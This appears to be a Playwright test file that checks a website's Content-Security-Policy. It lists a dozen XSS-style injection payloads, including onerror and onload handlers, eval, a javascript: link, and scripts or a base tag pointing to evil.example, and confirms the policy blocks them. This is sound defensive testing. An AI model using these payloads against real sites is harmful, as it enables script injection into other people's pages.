import { expect, type Page, test } from '@playwright/test';
import { CspEvaluator } from 'csp_evaluator/dist/evaluator.js';
import { Severity } from 'csp_evaluator/dist/finding.js';
import { CspParser } from 'csp_evaluator/dist/parser.js';
import { untilAlive, withoutSpinner } from './crawl.ts';

test('the policy holds before an evaluator', async ({ request, baseURL }) => {
  for (const path of [
    '/',
    '/bn/packages/domestic',
    '/visadetails/thailand',
    '/nothing-here',
    '/dashboard/home',
  ]) {
    const sent = (await request.get(path)).headers()['content-security-policy'] ?? '';
    // With HTTPS, as on the web.
    const policy = sent.replaceAll(baseURL ?? '', 'https://agency.example');
    const findings = new CspEvaluator(new CspParser(policy).csp).evaluate();
    const severe = findings.filter(
      ({ severity, description }) =>
        severity <= Severity.MEDIUM_MAYBE &&
        // Nothing under /assets/ lets a caller choose what runs: those are files of the build.
        !/JSONP|Angular/i.test(description),
    );
    expect(
      severe.map(({ directive, description }) => `${directive}: ${description}`),
      path,
    ).toEqual([]);
  }
});

/** Ways in which injected text could run. Each would set `window.ran`. */
const attempts: ReadonlyArray<readonly [name: string, attempt: string]> = [
  [
    'an inline script',
    'const s = document.createElement("script"); s.text = "window.ran = 1"; document.body.append(s)',
  ],
  [
    'a script from elsewhere',
    'const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s)',
  ],
  [
    'a script of a data address',
    'const s = document.createElement("script"); s.src = "data:text/javascript,window.ran=1"; document.body.append(s)',
  ],
  [
    'an upload as a script',
    'const s = document.createElement("script"); s.src = "/media/x/320.webp"; document.body.append(s)',
  ],
  [
    'a handler in markup',
    'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=window.ran=1>")',
  ],
  ['raw HTML', 'document.body.innerHTML += "<svg onload=window.ran=1>"'],
  [
    'a frame of text',
    'const f = document.createElement("iframe"); f.srcdoc = "<script>parent.ran=1</script>"; document.body.append(f)',
  ],
  [
    'a javascript: link',
    'const a = document.createElement("a"); a.href = "javascript:window.ran=1"; document.body.append(a); a.click()',
  ],
  ['text as code', 'setTimeout("window.ran = 1", 0)'],
  ['a function of text', 'new Function("window.ran = 1")()'],
  ['text that is evaluated', 'eval("window.ran = 1")'],
  [
    'a base that moves every path',
    'const b = document.createElement("base"); b.href = "https://evil.example/"; document.head.append(b); if (document.baseURI.includes("evil")) window.ran = 1',
  ],
];

/** Defines the attempts before the page's own code, outside of the policy; running them is subject to it. */
const prepare = (page: Page) =>
  page.addInitScript({
    content: `window.attempts = { ${attempts
      .map(([name, attempt]) => `${JSON.stringify(name)}: () => { ${attempt} }`)
      .join(',\n')} };`,
  });

async function attemptAll(page: Page): Promise<string[]> {
  const successful: string[] = [];
  for (const [name] of attempts) {
    const ran = await page.evaluate(async (which) => {
      const { attempts: all } = window as unknown as { attempts: Record<string, () => void> };
      // Later, because a debugger's evaluation may create code from text.
      setTimeout(() => {
        try {
          all[which]?.();
        } catch {
          // A refusal can be an exception.
        }
      });
      await new Promise((resolve) => setTimeout(resolve, 60));
      return 'ran' in window;
    }, name);
    if (ran) {
      successful.push(name);
      await page.evaluate(() => Reflect.deleteProperty(window, 'ran'));
    }
  }
  return successful;
}

test('no injected script runs', async ({ page }) => {
  await withoutSpinner(page);
  await prepare(page);
  await page.goto('/about');
  await untilAlive(page);
  expect(await attemptAll(page)).toEqual([]);
});

test.describe('without the policy', () => {
  test.use({ bypassCSP: true });

  test('without the policy the same scripts do run', async ({ page }) => {
    await withoutSpinner(page);
    await prepare(page);
    await page.goto('/about');
    await untilAlive(page);
    expect((await attemptAll(page)).length).toBeGreaterThan(5);
  });
});
